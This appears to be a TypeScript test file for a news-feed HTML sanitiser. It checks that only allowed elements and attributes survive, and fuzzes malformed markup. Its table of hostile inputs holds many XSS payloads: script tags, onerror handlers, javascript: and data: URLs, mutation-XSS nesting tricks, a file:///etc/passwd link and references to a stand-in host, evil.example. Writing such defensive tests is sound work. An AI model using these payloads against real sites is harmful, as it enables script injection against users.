// Unsafe content never gets from HTML into a feed, even from malformed HTML.
import fc from "fast-check";
import { parseHTML } from "linkedom";
import { describe, expect, test } from "vitest";
import { type Block, picturesIn } from "../../lambdas/article/block.ts";
import { cleanBlocks } from "../../lambdas/article/clean-article.ts";
import { renderRichText } from "../../lambdas/feed/content/rich-text.ts";
import { parseHtml } from "../../lambdas/rich-text/parse-html.ts";
import type { Address } from "../../lambdas/text/addresses/url.ts";
import { cleanText } from "../../lambdas/text/characters.ts";

/** Renders blocks as in a feed. All pictures exist. */
function render(blocks: readonly Block[]): string {
  const leading = { from: { kind: "beside" }, url: "https://news.example/leading.jpg" } as const;
  const others = picturesIn(blocks).map((picture) => ({
    ...picture,
    url: picture.from.kind === "remote" ? picture.from.url : "https://news.example/own.jpg",
  }));
  const pictures = [leading, ...others].map(({ from, url }) => ({ from, url: url as Address }));
  return renderRichText(cleanBlocks(blocks, cleanText), {
    ...{ shownIn: "page", pictures, linkedPictures: [] },
  }).join("");
}

/** All elements with their attributes, according to a parser that did not produce the HTML. */
function elementsOf(html: string) {
  const { document } = parseHTML(`<!doctype html><html><head></head><body>${html}</body></html>`);
  return [...document.body.querySelectorAll("*")].map((element) => ({
    name: element.localName,
    attributes: Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value])),
  }));
}

const allowed: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    "p h3 h4 blockquote ul ol li pre table tr th td figure figcaption span"
      .split(" ")
      .map((name) => [name, ["dir"]]),
  ),
  ...Object.fromEntries("strong em s sub sup code br hr".split(" ").map((name) => [name, []])),
  a: ["href"],
  img: ["src", "alt", "loading"],
  th: ["dir", "colspan", "rowspan"],
  td: ["dir", "colspan", "rowspan"],
  ol: ["dir", "start"],
};

function expectHarmless(html: string): void {
  for (const { name, attributes } of elementsOf(render(parseHtml(html)))) {
    expect(Object.keys(allowed)).toContain(name);
    expect(allowed[name]).toEqual(expect.arrayContaining(Object.keys(attributes)));
    if ("dir" in attributes) expect(attributes.dir).toMatch(/^(?:rtl|ltr)$/);
    if ("href" in attributes) expect(attributes.href).toMatch(/^(?:https?:\/\/|mailto:)/);
    for (const number of ["colspan", "rowspan", "start"])
      if (number in attributes) expect(attributes[number]).toMatch(/^\d{1,6}$/);
    if ("loading" in attributes) expect(attributes.loading).toBe("lazy");
    if ("src" in attributes) expect(attributes.src).toMatch(/^https?:\/\//);
  }
}

/** Hostile HTML, and the text that readers get from it. */
const hostile: readonly (readonly [name: string, html: string, text: string])[] = [
  ["a script", "<script>alert(1)</script>نص", "نص"],
  ["a script in capitals, never closed", "نص<SCRIPT SRC=//evil.example/x.js>", "نص"],
  ["a script split by another", "<scr<script>ipt>alert(1)</scr</script>ipt>نص", "ipt>alert(1)ipt>نص"],
  ["an event handler", '<p onclick="alert(1)">نص</p>', "نص"],
  ["an event handler without quotes", "<img src=x onerror=alert(1)>نص", "نص"],
  ["an event handler behind a slash", "<img/src=x/onerror=alert(1)>نص", "نص"],
  ["an address of javascript", '<a href="javascript:alert(1)">نص</a>', "نص"],
  ["one with a tab in its scheme", '<a href="java\tscript:alert(1)">نص</a>', "نص"],
  ["one in character references", '<a href="&#106;avascript&colon;alert(1)">نص</a>', "نص"],
  ["one behind a control character", '<a href="\u0001javascript:alert(1)">نص</a>', "نص"],
  ["vbscript", '<a href="vbscript:msgbox(1)">نص</a>', "نص"],
  ["a data address", '<a href="data:text/html,<script>alert(1)</script>">نص</a>', "نص"],
  ["a picture in a data address", '<img src="data:image/svg+xml,<svg onload=alert(1)>">نص', "نص"],
  ["a file address", '<a href="file:///etc/passwd">نص</a>', "نص"],
  ["a protocol-relative link", '<a href="//evil.example/">نص</a>', "نص"],
  ["a protocol-relative picture", '<img src="//evil.example/a.png">نص', "نص"],
  ["a picture's other sources", '<img srcset="//evil.example/a.png 2x">نص', "نص"],
  ["a frame", '<iframe src="https://evil.example/">نص في إطار</iframe>نص', "نص"],
  ["a frame's document", '<iframe srcdoc="<script>alert(1)</script>"></iframe>نص', "نص"],
  ["an object", '<object data="x.swf"><embed src="x.swf"></object>نص', "نص"],
  ["svg with a script", "<svg><script>alert(1)</script></svg>نص", "نص"],
  ["svg with a link", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>نص', "نص"],
  ["math", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>نص', "نص"],
  ["a style sheet", "<style>p{background:url(//evil.example/)}</style>نص", "نص"],
  ["a style", '<p style="position:fixed;background:url(//evil.example/)">نص</p>', "نص"],
  ["bdo", '<bdo dir="ltr">نص</bdo>', "نص"],
  ["a direction of its own", '<p dir="ltr" lang="en" class="x" id="y">نص</p>', "نص"],
  ["a custom element", '<x-gallery onload="alert(1)">نص</x-gallery>', "نص"],
  ["a form", '<form action="//evil.example/"><input value="x"><button>أرسل</button>نص</form>', "نص"],
  [
    "spans that are no numbers",
    '<table><tr><td colspan="2&quot; onclick=&quot;alert(1)" rowspan="javascript:alert(1)">نص</td></tr></table>',
    "نص",
  ],
  ["a comment", "<!-- <script>alert(1)</script> -->نص", "نص"],
  ["a comment that ends early", "<!--><script>alert(1)</script>-->نص", "-->نص"],
  ["a conditional comment", "<!--[if gte mso 9]><xml><o:x>1</o:x></xml><![endif]-->نص", "نص"],
  ["a CDATA section", "<![CDATA[<script>alert(1)</script>]]>نص", "نص"],
  ["a processing instruction", '<?php echo "x" ?>نص', "نص"],
  ["a tag that is never closed", "نص<p onclick=alert(1)", "نص"],
  ["a quotation mark that is never closed", 'نص<a href="x>y</a>', "نص"],
  ["a base", '<base href="https://evil.example/"><a href="/x">نص</a>', "نص"],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=//evil.example/">نص', "نص"],
  ["a template", "<template><script>alert(1)</script></template>نص", "نص"],
  ["text that looks like markup", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"],
  ["and doubly", "&amp;lt;b&amp;gt;", "&lt;b&gt;"],
  [
    "a noscript that an attribute ends",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>نص',
    "نص",
  ],
  [
    "a style that an attribute ends",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>نص',
    "نص",
  ],
  [
    "a math text that a table moves",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></math>نص",
    "نص",
  ],
  [
    "a form in a form",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>نص",
    "نص",
  ],
  ["a listing", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<img onerror=alert(1) src=x>"],
  ["old raw text", "<xmp><img src=x onerror=alert(1)></xmp>", "<img src=x onerror=alert(1)>"],
];

describe("hostile HTML gives only its text", () => {
  test.each(hostile)("%s", (_name, html, text) => {
    expectHarmless(html);
    const { document } = parseHTML(`<!doctype html><html><body>${render(parseHtml(html))}</body></html>`);
    expect(document.body.textContent.replaceAll(/[\u200E\u200F]/g, "").trim()).toBe(text);
  });
});

const names =
  "p div b i a span h1 h2 h5 ul ol li table tr td th blockquote pre figure figcaption img br hr q dl dt dd section font script style svg math iframe object noscript template x-y o:p textarea title select head body html".split(
    " ",
  );
const attribute = fc.constantFrom(
  "onclick=alert(1)",
  'href="javascript:alert(1)"',
  "href=//evil.example",
  'href="https://news.example/خبر?a=1&b=2"',
  'src="https://news.example/a.png"',
  "src=photo.jpg",
  "src='data:image/png;base64,AA'",
  'style="color:red"',
  'title="</noscript><img src=x onerror=alert(1)>"',
  "dir=ltr",
  "colspan=2",
  "rowspan='3\" onclick=alert(1)'",
  'start="7"',
);
const piece = fc.oneof(
  fc.tuple(fc.constantFrom(...names), fc.array(attribute, { maxLength: 2 })).map(([name, attributes]) => {
    return `<${[name, ...attributes].join(" ")}>`;
  }),
  fc.constantFrom(...names).map((name) => `</${name}>`),
  fc.constantFrom(
    "<",
    ">",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "&lt;",
    "&#60;",
    '"',
    "'",
    "</",
    "<a href=",
    "=",
    "/>",
  ),
  fc.string({ unit: "binary", maxLength: 10 }),
  fc.constantFrom("قال الوزير ", " في مسقط", "\n", "\u00A0"),
);

test("any markup gives only allowed elements and attributes", () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => expectHarmless(pieces.join(""))),
    { numRuns: 3000 },
  );
});

describe("HTML has limits", () => {
  test("for the depth of its elements", () => {
    expect(() => parseHtml(`${"<div>".repeat(201)}نص`)).toThrow("200 deep");
    expect(parseHtml(`${"<div>".repeat(200)}نص`)).toEqual(["نص"]);
  });

  test("for the number of its elements", () => {
    expect(() => parseHtml("<p>نص".repeat(50_001))).toThrow("50000 elements");
  });
});
